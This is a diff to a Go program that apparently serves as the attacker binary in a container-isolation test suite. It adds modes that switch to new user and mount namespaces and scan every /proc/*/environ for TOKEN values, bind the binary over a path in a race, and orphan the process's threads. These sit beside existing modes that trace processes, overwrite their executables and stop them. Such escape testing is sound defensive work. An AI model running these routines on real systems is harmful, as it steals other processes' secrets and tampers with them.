@@ -4,7 +4,17 @@
 //	                     tries to trace it; prints what it got as JSON
 //	overwrite SECONDS    writes to the executable of every process that appears, however it can be reached
 //	stop SECONDS         stops every process of its pid namespace but itself, as soon as it appears
+//	move KINDS           moves to new namespaces ("user,mnt"), says "moved" and prints the TOKEN of every environment that it can read
+//	race PATH            waits for a process to appear, moves to a new user and mount namespace and binds itself over PATH
+//	orphan SECONDS       ends its first thread, and itself after that time
+//
+// With other arguments, as when it is executed in another's place, it says who it is.
 package main
+
+/*
+#cgo CFLAGS: -Wall -Wextra -Werror -O2 -std=gnu11
+*/
+import "C"
 
 import (
 	"encoding/json"
@@ -27,20 +37,28 @@ type Loot struct {
 	Errors, Overwrote map[string]int
 }
 
+// The first thread is main's: see orphan.
+func init() { runtime.LockOSThread() }
+
 func main() {
 	if len(os.Args) != 3 {
-		os.Exit(2)
+		stranger()
+	}
+	if os.Args[1] == "move" { // which move.c has done
+		snoop()
 	}
 	seconds, err := strconv.Atoi(os.Args[2])
 	if err != nil {
-		os.Exit(2)
+		stranger()
 	}
 	if os.Args[1] == "stop" {
 		stop(time.Duration(seconds) * time.Second)
 		return
 	}
 	loot := Loot{Errors: map[string]int{}, Overwrote: map[string]int{}}
-	runtime.LockOSThread() // who traces is a thread
+	if os.Args[1] == "orphan" {
+		orphan(seconds)
+	}
 	look := loot.watch
 	if os.Args[1] == "overwrite" {
 		look = loot.overwrite
@@ -66,6 +84,44 @@ func stop(limit time.Duration) {
 		syscall.Kill(-1, syscall.SIGSTOP)
 		time.Sleep(20 * time.Microsecond)
 	}
+}
+
+// stranger says who it is and ends.
+func stranger() {
+	fmt.Println("attacker: uid", os.Getuid())
+	os.Exit(2)
+}
+
+// snoop prints the TOKENs of others.
+func snoop() {
+	fmt.Println("moved")
+	for {
+		dirs, err := os.ReadDir("/proc")
+		if err != nil {
+			os.Exit(1)
+		}
+		for _, d := range dirs {
+			text, err := os.ReadFile("/proc/" + d.Name() + "/environ")
+			if err != nil {
+				continue
+			}
+			for _, v := range strings.Split(string(text), "\x00") {
+				if strings.HasPrefix(v, "TOKEN=") {
+					fmt.Println(v)
+				}
+			}
+		}
+	}
+}
+
+// orphan leaves the process to its other threads.
+func orphan(seconds int) {
+	go func() {
+		time.Sleep(time.Duration(seconds) * time.Second)
+		os.Exit(0)
+	}()
+	fmt.Println("ready")
+	syscall.Syscall(syscall.SYS_EXIT, 0, 0, 0)
 }
 
 // ours reports whether the process runs something of the container's, or is gone; teu's has the number of a descriptor for
